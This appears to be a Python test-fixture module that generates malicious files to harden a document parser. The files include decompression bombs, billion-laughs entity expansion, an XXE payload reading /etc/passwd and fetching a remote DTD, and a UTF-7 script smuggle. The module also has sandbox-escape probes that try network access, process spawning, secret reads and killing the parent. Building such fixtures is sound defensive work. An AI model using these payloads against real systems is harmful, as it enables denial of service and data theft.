"""Broken and hostile files, small to store and made to be dear to read: each by the name that it would come under."""

from __future__ import annotations

import base64
import ctypes
import datetime
import gzip
import io
import itertools
import os
import random
import resource
import socket
import stat
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import BinaryIO

from bilat import errors

STORY = "The foreign ministers of Ruvania and Estor met in Lisk on 3 March 2024 and agreed to reopen the Tarn crossing before the end of the year. "
SENTENCES = "<p>" + "</p><p>".join([STORY * 2] * 4) + "</p>"
PAGE = f"<!DOCTYPE html><html lang=en><head><title>Ministers meet</title></head><body><article><h1>Ministers meet</h1>{SENTENCES}</article></body></html>"
RUSSIAN = "Министры иностранных дел Рувании и Эстора встретились в Лиске и договорились открыть переправу через Тарн до конца года. " * 4

# compressed zeros of any length, without ever having them


def zeros(length: int, *, head: bytes = b"", fill: bytes = b" ", tail: bytes = b"", window: int = -15) -> bytes:
    """A deflate stream of `head`, so many bytes of `fill`, and `tail`; a full flush lets its middle be repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    step = 16 << 20
    middle = packer.compress(fill * step) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(tail) + packer.flush()
    body = first + middle * max(1, length // step) + last
    if window == 15:
        return b"\x78\xda" + body + bytes(4)  # its checksum is wrong, which shows at the end only
    if window == 31:
        return b"\x1f\x8b\x08" + bytes(7) + body + bytes(8)
    return body


# ZIP and DOCX

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document_xml(body: str, doctype: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document {WORDS}><w:body>{body}</w:body></w:document>'


def docx(document: str, *, content_types: str = CONTENT_TYPES, relations: str = RELATIONS, **more: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, part in {"[Content_Types].xml": content_types, "_rels/.rels": relations, "word/document.xml": document, **more}.items():
            opened.writestr(name, part)
    return target.getvalue()


def zip_of(entries: list[tuple[str, bytes, int, int]], directory: Callable[[list[tuple[str, int]]], list[tuple[str, int]]] = list) -> bytes:
    """A ZIP of deflated parts whose sizes and checksums are said to be as given; `directory` makes the list of (name, offset) in its central directory."""
    body, places, sizes = b"", [], {}
    for name, packed, said, checksum in entries:
        places.append((name, len(body)))
        sizes[len(body)] = (checksum, len(packed), said)
        body += struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, checksum, len(packed), said, len(name), 0) + name.encode() + packed
    central = b""
    listed = directory(places)
    for name, offset in listed:
        central += struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, *sizes[offset], len(name), 0, 0, 0, 0, 0, offset) + name.encode()
    return body + central + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, len(listed), len(listed), len(central), len(body), 0)


def sound(name: str, text: str) -> tuple[str, bytes, int, int]:
    return name, zlib.compress(text.encode())[2:-4], len(text), zlib.crc32(text.encode())


def docx_bomb(said: int) -> bytes:
    """10 GB of spaces in the body of a document."""
    bomb = zeros(10 << 30, head=document_xml("").removesuffix("</w:body></w:document>").encode())
    parts = [sound("[Content_Types].xml", CONTENT_TYPES), sound("_rels/.rels", RELATIONS), ("word/document.xml", bomb, said, 0)]
    return zip_of(parts)


def docx_overlapping() -> bytes:
    """One part of 64 MB, listed 20,000 times under as many names."""
    parts = [sound("[Content_Types].xml", CONTENT_TYPES), sound("_rels/.rels", RELATIONS), ("word/document.xml", zeros(64 << 20), 64 << 20, 0)]
    return zip_of(parts, lambda places: places + [(f"word/media/{number}.xml", places[-1][1]) for number in range(20_000)])


def laughs(root: str, reference: str = "&z;") -> tuple[str, str]:
    """A document type in which ten entities each hold ten of the one before, and a reference to the last."""
    names = "abcdefghijz"
    lines = ['<!ENTITY a "ha ha ha ha ">', *(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in itertools.pairwise(names))]
    return f"<!DOCTYPE {root} [{''.join(lines)}]>", reference


def docx_laughs() -> bytes:
    doctype, reference = laughs("w:document")
    return docx(document_xml(paragraph(reference), doctype))


def docx_outside() -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://192.0.2.1/y.dtd"> %y;]>'
    return docx(document_xml(paragraph("before &x; after") + paragraph(STORY * 3), doctype))


def docx_cells() -> bytes:
    """A million cells that differ, so that the file packs no better than a document does."""
    noise = random.Random(5)
    row = ("<w:tr>" + f"<w:tc>{paragraph('%d')}</w:tc>" * 1000 + "</w:tr>").__mod__
    rows = "".join(row(tuple(noise.choices(range(1 << 20), k=1000))) for _ in range(50))  # each longer than the window in which repeats are seen
    return docx(document_xml(f"<w:tbl>{rows * 20}</w:tbl>"))


def docx_deep() -> bytes:
    noise = random.Random(5)
    return docx(document_xml("".join(f'<w:p w:rsidR="{noise.randrange(1 << 30):08X}">' for _ in range(200_000)) + "</w:p>" * 200_000))


def docx_paragraphs() -> bytes:
    noise = random.Random(5)
    return docx(document_xml("".join(paragraph(f"Line {noise.randrange(1 << 30)}.") for _ in range(500_000))))


def docx_linked() -> bytes:
    """A document that wants a picture and its template from a server."""
    links = "".join(
        f'<Relationship Id="r{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="http://192.0.2.1/{n}" TargetMode="External"/>'
        for n, kind in enumerate(["image", "attachedTemplate", "oleObject"])
    )
    relations = f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'
    return docx(document_xml(paragraph(STORY * 3)), **{"word/_rels/document.xml.rels": relations})


# pages


def html(body: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><title>Ministers meet</title>{head}</head><body>{body}</body></html>".encode()


def attributes(count: int) -> bytes:
    names = map("".join, itertools.product("abcdefghijklmnopqrstuvw", repeat=5))
    return html(f"<p {' '.join(itertools.islice(names, count))}>x</p>{SENTENCES}")


def cells() -> bytes:
    return html(f"<h1>Figures</h1>{SENTENCES}<table>{('<tr>' + '<td>7' * 1000) * 1000}</table>")


def many_scripts() -> bytes:
    return html(SENTENCES, '<script type="application/ld+json">' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "</script>")


def labelled(charset: str, text: bytes) -> bytes:
    page = f'<!DOCTYPE html><html lang="ru"><head><meta charset="{charset}"><title>x</title></head><body><article><h1>x</h1><p>@@</p></article></body></html>'
    return page.encode().replace(b"@@", text)


def utf7() -> bytes:
    """A page whose label would have `+ADw-` read as `<`."""
    return PAGE.replace("<title>", '<meta charset="utf-7"><title>').replace(STORY, STORY + "+ADw-script+AD4-", 1).encode()


# feeds and sitemaps


def feed(description: str, doctype: str = "") -> bytes:
    item = f"<item><title>Ministers meet</title><link>https://mfa.example/1</link><description>{description}</description></item>"
    return f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>News</title><link>https://mfa.example/</link>{item}</channel></rss>'.encode()


def feed_laughs() -> bytes:
    doctype, reference = laughs("rss")
    return feed(reference, doctype)


def feed_quadratic() -> bytes:
    return feed("&a;" * 50_000, f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>')


def feed_deep() -> bytes:
    return feed("<b>" * 1_000_000)


def feed_items() -> bytes:
    item = "<item><title>x</title><link>https://mfa.example/{}</link></item>"
    return f'<rss version="2.0"><channel>{"".join(item.format(number) for number in range(300_000))}</channel></rss>'.encode()


def sitemap(count: int) -> bytes:
    return f"<urlset>{''.join(f'<url><loc>http://a.example/{number}</loc></url>' for number in range(count))}</urlset>".encode()


def sitemap_laughs() -> bytes:
    doctype, reference = laughs("urlset")
    return f'<?xml version="1.0"?>{doctype}<urlset><url><loc>http://a.example/{reference}</loc></url></urlset>'.encode()


# PDF


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, the first its catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table, len(objects) + 1, trailer, len(out))


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(data), more, data)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
ONE_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>"


def pdf_with(content: bytes, more: bytes = b"", page: bytes = ONE_PAGE, trailer: bytes = b"") -> bytes:
    return pdf(CATALOGUE, PAGES, page, stream(content, more), trailer=trailer)


def pdf_text() -> bytes:
    lines = b"".join(b"(%b) Tj 0 -14 Td " % STORY[start : start + 80].encode() for start in range(0, len(STORY), 80))
    return pdf_with(b"BT /F 12 Tf 20 700 Td " + lines * 8 + b"ET")


def pdf_loop() -> bytes:
    return pdf(CATALOGUE, b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 4/Parent 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 9/Parent 3 0 R>>")


def pdf_locked() -> bytes:
    locked = b"/Encrypt<</Filter/Standard/V 1/R 2/Length 40/P -44/O<%b>/U<%b>>>/ID[<00><00>]" % (b"ab" * 32, b"cd" * 32)
    return pdf_with(b"BT ET", trailer=locked)


def pdf_counts() -> bytes:
    return pdf(CATALOGUE, b"<</Type/Pages/Kids[%b]/Count 200000000>>" % (b"3 0 R " * 300_000), ONE_PAGE, stream(b"BT /F 1 Tf (x) Tj ET"))


def pdf_forms() -> bytes:
    """Drawings, each of which draws the one before ten times."""
    forms = [stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (number + 1)) for number in range(4, 14)]
    page = ONE_PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 5 0 R>>")
    return pdf(CATALOGUE, PAGES, page, stream(b"/X Do"), *forms[1:], stream(b"BT ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"))


# archives of the web


def record(body: bytes, *, url: str = "https://mfa.example/1", length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    head = f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {url}\r\nWARC-Date: 2024-03-01T10:11:12Z\r\nWARC-Record-ID: <urn:x:1>\r\nContent-Type: application/http\r\nContent-Length: {size}\r\n\r\n"
    return head.encode() + body + b"\r\n\r\n"


def http(body: bytes, *headers: str) -> bytes:
    return "\r\n".join(["HTTP/1.1 200 OK", "Content-Type: text/html", *headers, "", ""]).encode() + body


def warc_bomb() -> bytes:
    head = record(http(b""), length=10 << 30).removesuffix(b"\r\n\r\n")
    return zeros(10 << 30, head=head, window=31) + gzip.compress(record(http(PAGE.encode())))


def lines_deep() -> bytes:
    return b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n" + b'{"text": "fine"}\n'


# Under each name: what makes the file, and what must come of it: "error", "read" with the words that must be in it, or "either".
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "bomb-that-says-4-GB.docx": (partial(docx_bomb, 0xFFFFFFF0), "error", ""),
    "bomb-that-says-1-kB.docx": (partial(docx_bomb, 1000), "error", ""),
    "overlapping.docx": (docx_overlapping, "error", ""),
    "laughs.docx": (docx_laughs, "error", ""),
    "outside.docx": (docx_outside, "either", ""),
    "linked.docx": (docx_linked, "read", "Tarn crossing"),
    "million-cells.docx": (docx_cells, "either", ""),
    "deep.docx": (docx_deep, "error", ""),
    "half-million-paragraphs.docx": (docx_paragraphs, "either", ""),
    "cut.docx": (lambda: docx(document_xml(paragraph(STORY)))[:-60], "error", ""),
    "million-cells.html": (cells, "either", ""),
    "million-deep.html": (lambda: html("<div>" * 1_000_000 + SENTENCES), "either", ""),
    "million-open-inlines.html": (lambda: html("<b>" * 300_000 + "<p>" * 300_000 + SENTENCES), "either", ""),
    "five-million-attributes.html": (partial(attributes, 5_000_000), "error", ""),
    "million-attributes.html": (partial(attributes, 1_000_000), "either", ""),
    "brackets.html": (lambda: b"<!DOCTYPE html><html>" + b"<" * (1 << 20), "either", ""),
    "quotes.html": (lambda: html("<p title='" + "<a href=\"'" * (1 << 17)), "either", ""),
    "comments.html": (lambda: html("<!--" * (1 << 18) + "<!-- -" * (1 << 17)), "error", ""),
    "entities.html": (lambda: html("<p>" + "&#x26;amp;&notanentity&" * (1 << 17)), "either", ""),
    "blanks.html": (lambda: html(SENTENCES + "<p>" + " \t\xa0" * (1 << 20) + "</p>"), "either", ""),
    "numbers.html": (lambda: html(f"<p>{'2024-' * (1 << 18)}</p><p>{'12.12.' * (1 << 18)}</p>{SENTENCES}"), "either", ""),
    "deep-ld.html": (many_scripts, "either", ""),
    "one-line.html": (lambda: html("<p>" + (STORY * (30 << 13))[: 30 << 20] + "</p>"), "error", ""),
    "one-line.txt": (lambda: (STORY * (30 << 13))[: 30 << 20].encode(), "error", ""),
    "zeros.html": (lambda: bytes(40 << 20), "error", ""),
    "zeros.pdf": (lambda: bytes(40 << 20), "error", ""),
    "bomb.html.gz": (partial(zeros, 10 << 30, head=PAGE.encode(), window=31), "error", ""),
    "bomb.jsonl.gz": (partial(zeros, 10 << 30, head=b'{"text": "', window=31), "error", ""),
    "bomb.warc.gz": (warc_bomb, "read", "Tarn crossing"),
    "cut.html.gz": (lambda: gzip.compress(PAGE.encode())[:-40], "error", ""),
    "cut.warc.gz": (lambda: gzip.compress(record(http(PAGE.encode()))) + gzip.compress(record(http(PAGE.encode())))[:-90], "read", "Tarn crossing"),
    "cut.pdf": (lambda: pdf_text()[:400], "error", ""),
    "cut-at-its-table.pdf": (lambda: pdf_text()[:-120], "either", ""),
    "loop.pdf": (pdf_loop, "error", ""),
    "bomb.pdf": (lambda: pdf_with(zeros(2 << 30, head=b"BT /F 12 Tf ", tail=b"(x) Tj ET", window=15), b"/Filter/FlateDecode"), "error", ""),
    "bomb-in-a-bomb.pdf": (lambda: pdf_with(zlib.compress(zeros(8 << 30, window=15)), b"/Filter[/FlateDecode/FlateDecode]"), "error", ""),
    "locked.pdf": (pdf_locked, "error", ""),
    "vast.pdf": (lambda: pdf_text().replace(b"[0 0 612 792]", b"[0 0 1e38 1e38]"), "either", ""),
    "many-pages.pdf": (pdf_counts, "error", ""),
    "forms.pdf": (pdf_forms, "error", ""),
    "brackets.pdf": (lambda: pdf(CATALOGUE + b"[" * 2_000_000, PAGES), "error", ""),
    "program.pdf": (lambda: b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(range(256)) * 400, "error", ""),
    "elf.docx": (lambda: b"\x7fELF\2\1\1" + bytes(9) + bytes(range(256)) * 400, "error", ""),
    "laughs.rss": (feed_laughs, "error", ""),
    "quadratic.rss": (feed_quadratic, "error", ""),
    "deep.rss": (feed_deep, "either", ""),
    "many.rss": (feed_items, "either", ""),
    "million.sitemap.xml": (partial(sitemap, 1_000_000), "error", ""),
    "half-million.sitemap.xml": (partial(sitemap, 500_000), "either", ""),
    "laughs.sitemap.xml": (sitemap_laughs, "error", ""),
    "says-utf-8.html": (lambda: labelled("utf-8", RUSSIAN.encode("cp1251")), "read", "переправу через Тарн"),
    "says-latin-1.html": (lambda: labelled("iso-8859-1", RUSSIAN.encode()), "read", "переправу через Тарн"),
    "says-utf-7.html": (utf7, "read", "+ADw-script+AD4-"),
    "wide-without-mark.html": (lambda: PAGE.encode("utf-16-le"), "read", "Tarn crossing"),
    "garbled.html": (lambda: labelled("utf-8", base64.b85encode(bytes(2000)) + bytes(range(128, 256)) * 30), "error", ""),
    "lying-length.warc": (lambda: record(http(PAGE.encode()), length=10**15) + record(http(PAGE.encode())), "read", "Tarn crossing"),
    "nonsense-chunks.warc": (lambda: record(http(b"zz\r\nnonsense", "Transfer-Encoding: chunked")) + record(http(PAGE.encode())), "read", "Tarn crossing"),
    "endless-header.warc": (lambda: b"WARC/1.0\r\nX-Pad: " + b"y" * (20 << 20), "error", ""),
    "million-headers.warc": (lambda: b"WARC/1.0\r\n" * 1_000_000, "error", ""),
    "deep.jsonl": (lines_deep, "read", "fine"),
    **{f"empty.{ending}": (bytes, "error", "") for ending in ("html", "pdf", "docx", "rss", "jsonl", "warc", "html.gz", "txt")},
}


# those that take all the time they are given
SLOW = ("million-attributes.html", "deep.rss", "half-million-paragraphs.docx")


# what a parser that was taken over might do; each is called within the sandbox


def count(data: bytes, *, name: str) -> int:
    del name
    return len(data)


def words(data: bytes, *, name: str, day: datetime.date) -> str:
    return f"{name} {day.year} {data.decode()}"


def refuse(data: bytes, *, name: str, error: str) -> str:
    del data
    raise getattr(errors, error)(f"{name}: as it should")


def stumble(data: bytes, *, name: str) -> str:
    raise KeyError(f"{name} {len(data)}")


def leave(data: bytes, *, name: str) -> str:
    raise SystemExit(f"{name} {len(data)}")


def fill(data: bytes, *, name: str) -> str:
    """Take memory until there is none."""
    kept = [f"{name} {len(data)}"]
    while True:
        kept.append("x" * (1 << 20) + str(len(kept)))


def spin(data: bytes, *, name: str) -> str:
    while True:
        data = data[::-1] if name else data


def crash(data: bytes, *, name: str) -> str:
    del data, name
    return str(ctypes.string_at(0))


def lie(data: bytes, *, name: str) -> str:
    """Answer with bytes of its own making, past every check, and go."""
    del name
    for descriptor in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, data)
        except OSError:
            continue
    os._exit(0)


def attempts(data: bytes, *, name: str) -> dict[str, str]:
    """Try to reach the network, other processes and the disk, through Python and past it; tell what came of each."""
    port, path = data.decode().split(" ", 1)
    libc = ctypes.CDLL(None, use_errno=True)
    address = struct.pack("=H", socket.AF_INET) + struct.pack(">H", int(port)) + bytes([127, 0, 0, 1]) + bytes(8)

    def native(function: str, *arguments: object) -> int:
        result: int = getattr(libc, function)(*arguments)
        if result < 0:
            raise OSError(ctypes.get_errno(), "")
        return result

    def system_call(number: int, *arguments: object) -> int:
        return native("syscall", ctypes.c_long(number), *arguments)

    tries: dict[str, Callable[[], object]] = {
        "connect": lambda: socket.create_connection(("127.0.0.1", int(port)), 1),
        "resolve": lambda: socket.getaddrinfo("localhost", 80),
        "native connect": lambda: native("connect", native("socket", 2, 1, 0), address, 16),
        "native socket": lambda: native("socket", 2, 2, 0),
        "local socket": lambda: native("socket", 1, 1, 0),
        "system": lambda: 1 / (os.system("true") == 0),
        "native system": lambda: 1 / (libc.system(b"true") == 0),
        "run": lambda: subprocess.run(["true"], check=True),
        "spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
        "exec": lambda: native("execv", b"/bin/true", (ctypes.c_char_p * 2)(b"true", None)),
        "fork": lambda: os.fork() or os._exit(0),
        "native fork": lambda: native("fork") or os._exit(0),
        "write": lambda: Path(path).write_text("x"),
        "append": lambda: os.open(path, os.O_WRONLY | os.O_APPEND),
        "native write": lambda: native("open", path.encode(), os.O_WRONLY | os.O_CREAT, 0o600),
        "remove": lambda: os.remove(path),
        "native remove": lambda: native("unlink", path.encode()),
        "native rename": lambda: native("rename", path.encode(), path.encode() + b"2"),
        "read a secret": Path(path).read_text,
        "native read of a secret": lambda: native("open", path.encode(), os.O_RDONLY),
        "kill": lambda: os.kill(os.getppid(), 9),
        "native kill": lambda: native("kill", os.getppid(), 9),
        "trace": lambda: native("ptrace", 16, os.getppid(), 0, 0),
        "raise a limit": lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
        "ring": lambda: system_call(425, 4, ctypes.create_string_buffer(120)),
        "memory file": lambda: os.memfd_create("x"),
    }
    outcomes = {}
    for what, attempt in tries.items():
        try:
            attempt()
            outcomes[what] = "done"
        except BaseException as error:
            outcomes[what] = type(error).__name__
    outcomes["name"] = name
    return outcomes


def still_possible(data: bytes, *, name: str) -> list[str]:
    """What parsers need: modules, encodings and time zones that were not loaded yet."""
    import colorsys
    import zoneinfo

    return [data.decode("mac-roman"), str(zoneinfo.ZoneInfo("Asia/Almaty")), str(colorsys.rgb_to_hsv(0, 0, 0)), name]


def numbers(file: BinaryIO, *, name: str, until: int) -> Iterator[int | None]:
    """Yield a number for each line of a file, nothing for each blank one, and then whatever the last asks for."""
    for number, line in enumerate(file):
        if line.startswith(b"spin"):
            spin(b"x", name=name)
        elif line.startswith(b"refuse"):
            refuse(b"", name=name, error="FormatError")
        elif line.startswith(b"die"):
            crash(b"", name=name)
        if number == until:
            return
        yield number if line.strip() else None


def megabytes(file: BinaryIO, *, name: str) -> Iterator[bytes]:
    """Yield megabytes without end."""
    del name
    block = file.read(1 << 20)
    while True:
        yield block
